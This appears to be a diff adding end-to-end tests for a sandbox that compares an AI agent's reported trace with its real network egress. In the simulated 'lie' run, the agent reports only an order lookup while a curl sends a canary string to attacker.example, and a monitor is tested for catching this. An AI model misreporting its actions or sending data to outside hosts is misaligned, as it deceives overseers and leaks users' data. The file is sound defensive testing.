@@ -1,0 +1,181 @@
+"""The sandbox as a process: told over HTTP, seen by the proxy, judged, and nothing else leaves."""
+
+from __future__ import annotations
+
+import http.server
+import json
+import os
+import signal
+import threading
+import time
+
+import pytest
+
+from kaizen_security.client.http import Connection
+from kaizen_security.testing.models import ModelServer
+from tests.e2e.line import Line
+from tests.e2e.sandbox.sandboxed import TOKEN, Sandboxed
+from tests.e2e.sidecar_process import until
+
+SUPPORT = {
+    "tools": ["lookup_order"],
+    "destinations": ["api.internal"],
+    "purpose": "answer customers about their orders",
+    "reach": {"lookup_order": {"hosts": ["api.internal"], "always": True}},
+}
+CANARY = "zebra-quartz-41-vexing"
+
+
+class Quiet(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.send_response(200)
+        self.send_header("Content-Length", "2")
+        self.end_headers()
+        self.wfile.write(b"ok")
+
+    do_POST = do_GET
+
+    def log_message(self, *_):
+        pass
+
+
+@pytest.fixture(scope="module")
+def origin():
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    place = f"127.0.0.1:{server.server_port}"
+    yield {"api.internal:80": place, "attacker.example:80": place}
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.fixture(scope="module")
+def sandbox(tmp_path_factory, origin):
+    with Sandboxed(tmp_path_factory.mktemp("sandbox"), SUPPORT, hosts=origin) as sandbox:
+        yield sandbox
+
+
+def run(sandbox, name, *hosts):
+    sandbox.tell(
+        {"step": "request", "run_id": name, "text": f"where is my order? {CANARY}"},
+        {
+            "step": "action",
+            "run_id": name,
+            "tool": "lookup_order",
+            "id": f"{name}-1",
+            "metadata": {"source": "bedrock-trace"},
+        },
+    )
+    for host in hosts:
+        assert sandbox.curl(f"http://{host}/orders/{CANARY}").stdout == "ok"
+    sandbox.tell(
+        {"step": "result", "run_id": name, "action_id": f"{name}-1", "content": CANARY},
+        {"step": "end", "run_id": name},
+    )
+
+
+def test_an_honest_run_is_silent_and_a_lie_is_said_within_two_seconds(sandbox):
+    run(sandbox, "honest", "api.internal")
+    run(sandbox, "lie", "api.internal", "attacker.example")
+    gap = sandbox.gap()
+    assert gap["verdict"]["reason"].startswith(
+        "Trace-vs-egress gap: the agent reported only a lookup_order call to api.internal, but the real egress shows a "
+        "connection to attacker.example:80"
+    )
+    assert gap["verdict"]["confidence"] == 0.95
+    assert gap["action"]["run_id"] == "lie"
+    at = time.mktime(time.strptime(gap["verdict"]["at"][:19], "%Y-%m-%dT%H:%M:%S")) - time.timezone
+    # The effect's time is cut to a second here.
+    assert gap["at"] - at < 3.0
+
+
+def test_who_has_no_token_neither_tells_nor_reads_nor_gets_out(sandbox):
+    for token in ("", "wrong", "kz_live_0123456789abcdef"):
+        assert sandbox.ask("POST", "/v1/traces", {"steps": []}, token)[0] in (401, 503)
+        assert sandbox.ask("GET", "/v1/gaps", None, token)[0] in (401, 503)
+    assert "407" in sandbox.curl("-v", "http://api.internal/", token="").stderr
+    assert "407" in sandbox.curl("-v", "http://api.internal/", token="wrong").stderr
+
+
+@pytest.mark.parametrize(
+    ("body", "status"),
+    [
+        ({"nothing": 1}, 422),
+        ({"steps": [{"step": "unheard"}]}, 422),
+        ([[[]]], 422),
+        ({"steps": [{}] * 10_001}, 413),
+        ("text", 422),
+    ],
+)
+def test_what_is_no_account_is_refused_with_its_field(sandbox, body, status):
+    got, said = sandbox.ask("POST", "/v1/traces", body)
+    assert (got, "error" in said) == (status, True)
+
+
+def test_otlp_gets_the_answer_that_exporters_expect(sandbox):
+    assert sandbox.ask("POST", "/v1/traces", {"resourceSpans": []}) == (200, {"partialSuccess": {}})
+
+
+def test_a_proxy_that_dies_ends_the_sandbox_so_that_nothing_goes_unseen(tmp_path):
+    with Sandboxed(tmp_path, SUPPORT) as sandbox:
+        pids = until(lambda: children(sandbox.process.pid), "the proxy")
+        os.kill(pids[0], signal.SIGKILL)
+        sandbox.process.wait(20)
+        assert sandbox.process.returncode == 1
+        assert "the egress proxy has ended" in sandbox.said()
+
+
+def test_a_sandbox_that_is_killed_takes_its_proxy_with_it(tmp_path):
+    with Sandboxed(tmp_path, SUPPORT) as sandbox:
+        (pid,) = until(lambda: children(sandbox.process.pid), "the proxy")
+        sandbox.process.kill()
+        sandbox.process.wait(20)
+        until(lambda: not alive(pid), "the proxy's end")
+
+
+def children(pid):
+    with open(f"/proc/{pid}/task/{pid}/children") as file:
+        return [int(word) for word in file.read().split()]
+
+
+def alive(pid):
+    try:
+        with open(f"/proc/{pid}/stat") as file:
+            return file.read().rpartition(")")[2].split()[0] != "Z"
+    except FileNotFoundError:
+        return False
+
+
+def test_only_the_verdict_reaches_the_control_plane(tmp_path, origin):
+    with Line.started(tmp_path / "line") as line:
+        url, key = line.environment["KAIZEN_API_URL"], line.environment["KAIZEN_API_KEY"]
+        observer = json.loads((line.data / "keys.json").read_text())["observer"]
+        environ = {"KAIZEN_API_URL": url, "KAIZEN_API_KEY": observer}
+
+        def rows():
+            headers = {"Authorization": f"Bearer {key}"}
+            return Connection(url).json("GET", "/v1/verdicts?agent=support&limit=200", None, headers, 5.0)["verdicts"]
+
+        with Sandboxed(tmp_path / "sandbox", SUPPORT, hosts=origin, environ=environ) as sandbox:
+            run(sandbox, "lie", "attacker.example")
+            found = until(lambda: [row for row in rows() if "gap" in row["reason"]], "the gap's row")
+            assert found[0]["action"]["target"] == "attacker.example:80"
+            assert found[0]["confidence"] == 0.95
+            assert CANARY not in json.dumps(rows())
+            # The organisation's keys open the receiver as well.
+            assert sandbox.ask("POST", "/v1/traces", {"steps": []}, key)[0] == 200
+
+
+def test_the_judging_process_reaches_its_model_and_nothing_else(tmp_path, origin):
+    with (
+        ModelServer() as model,
+        Sandboxed(
+            tmp_path,
+            SUPPORT,
+            hosts=origin,
+            environ={"KZ_MODEL_BACKEND": "openai", "KZ_MODEL": "any", "KAIZEN_MODEL_URL": model.url + "/v1"},
+        ) as sandbox,
+    ):
+        status, health = sandbox.ask("GET", "/healthz", None, "")
+        assert (status, health["confined"], health["refused"]) == (200, True, 0)
+        assert TOKEN not in json.dumps(health)
